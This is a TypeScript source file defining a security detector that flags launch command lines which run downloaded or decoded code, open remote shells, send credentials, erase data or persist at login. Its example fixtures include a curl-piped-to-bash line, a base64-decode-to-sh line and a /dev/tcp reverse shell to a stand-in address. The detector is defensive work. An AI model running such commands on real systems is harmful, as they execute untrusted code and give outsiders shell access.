import { defineDetector } from '../../core/detector.ts'
import { programOf } from '../../core/launch/word.ts'
import { runsOf } from '../../core/launch/read-command.ts'
import { launchSubject } from '../example-launches.ts'
import { wordAt } from '../launch-words.ts'
import { dangersOf } from '../shell-dangers.ts'

/** Programs of Windows that run what an address gives. */
const FETCHES = new Set(['mshta', 'regsvr32', 'rundll32', 'wscript', 'cscript'])
const CODE: Readonly<Record<string, string>> = {
  python: 'python -c',
  node: 'node -e',
  deno: 'deno eval',
  bun: 'bun -e',
  perl: 'perl -e',
  ruby: 'ruby -e',
  php: 'php -r',
  osascript: 'osascript -e',
}

export default defineDetector({
  id: 'launch/download-and-run',
  subject: 'launch',
  title: 'The command line runs what it downloads',
  severity: 'high',
  confidence: 'high',
  audience: 'everyone',
  stage: 'nursery',
  since: '0.1.0',
  version: 1,
  needs: [],
  risks: ['U15', 'U25'],
  why: 'What is run is decided at each start by whoever holds the address; nothing of it can be looked at beforehand.',
  fix: 'Download the program once, look at it, and start that file, or a package in an exact version.',
  examples: [
    {
      title: 'piped to a shell',
      matches: 1,
      subject: launchSubject(['bash', '-c', 'curl -fsSL https://files.example/start.sh | bash']),
    },
    {
      title: 'decoded first',
      matches: 1,
      subject: launchSubject(['sh', '-c', 'echo ZWNobyBoaQ== | base64 -d | sh']),
    },
    {
      title: 'a line that opens a shell to outside',
      matches: 1,
      subject: launchSubject(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1']),
    },
    {
      title: 'a plain start',
      matches: 0,
      subject: launchSubject(['bash', '-c', 'cd /opt/server && exec node index.js']),
    },
    {
      title: 'words about it',
      matches: 0,
      subject: launchSubject(['node', '/opt/server/index.js', '--hint', 'curl x | sh']),
    },
  ],
  *check(launch) {
    const { what, through, rest } = runsOf(launch)
    if (what.kind === 'file' && FETCHES.has(programOf(what.path))) {
      const address = rest.find(({ word }) => /^(?:javascript:|https?:|\/i:https?:|\\\\)/i.test(word))
      if (address)
        yield { place: { pointer: address.pointer }, message: 'The command line runs what it downloads' }
      return
    }
    if (what.kind !== 'code') return
    const words: readonly unknown[] = Array.isArray(launch.args) ? launch.args : []
    const isEncoded = words.some(
      (word) => typeof word === 'string' && /^-e(?:c|nc|ncodedcommand)$/i.test(word),
    )
    if (through.at(-1) === 'powershell' && isEncoded) {
      yield {
        place: { pointer: what.pointer },
        message: 'The command line runs something that it decodes first',
      }
      return
    }
    // The last program of the way is the one that the code is for.
    const line = wordAt(launch, what.pointer)
    const own = CODE[through.at(-1) ?? '']
    const dangers = dangersOf(own === undefined ? line : `${own} '${line.replaceAll("'", '"')}'`)
    const place = { pointer: what.pointer }
    if (dangers.has('opens-shell'))
      yield { place, severity: 'critical', message: 'The command line opens a shell to another machine' }
    else if (dangers.has('sends-secret'))
      yield { place, severity: 'critical', message: 'The command line sends credentials to another machine' }
    else if (dangers.has('runs-download')) yield { place, message: 'The command line runs what it downloads' }
    else if (dangers.has('runs-decoded'))
      yield { place, message: 'The command line runs something that it decodes first' }
    else if (dangers.has('erases')) yield { place, message: 'The command line erases what it was not given' }
    else if (dangers.has('persists'))
      yield { place, severity: 'medium', message: 'The command line writes what is run at every login' }
  },
})
